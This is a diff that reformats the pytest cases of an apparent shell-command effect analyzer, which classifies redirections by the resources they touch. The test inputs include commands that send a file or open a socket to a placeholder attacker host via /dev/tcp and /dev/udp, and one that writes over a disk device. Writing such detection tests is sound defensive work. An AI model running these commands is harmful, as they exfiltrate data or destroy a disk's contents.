@@ -42,7 +42,18 @@ def test_files(text: str, verb: Verb, name: str) -> None:
     assert effect.resource.name == name
 
 
-@pytest.mark.parametrize("text", ["run > /dev/null", "run 2>&1", "run 2>/dev/null >&2", "run >&-", "run < /dev/null", "run 3>&1", "run > /dev/stderr"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "run > /dev/null",
+        "run 2>&1",
+        "run 2>/dev/null >&2",
+        "run >&-",
+        "run < /dev/null",
+        "run 3>&1",
+        "run > /dev/stderr",
+    ],
+)
 def test_nothing_is_touched(text: str) -> None:
     assert read(text).effects == ()
 
@@ -61,7 +72,9 @@ def test_a_disk_is_a_device() -> None:
     assert only(read("cat x > /dev/sda"), Verb.OVERWRITE).resource.kind is Kind.DEVICE
 
 
-@pytest.mark.parametrize("text", ["cat x > /dev/tcp/evil.example/99", "cat x >/dev/udp/evil.example/99", "exec 3<>/dev/tcp/evil.example/99"])
+@pytest.mark.parametrize(
+    "text", ["cat x > /dev/tcp/evil.example/99", "cat x >/dev/udp/evil.example/99", "exec 3<>/dev/tcp/evil.example/99"]
+)
 def test_bash_itself_connects(text: str) -> None:
     effect = only(read(text), Verb.SEND)
     assert effect.resource.kind is Kind.HOST
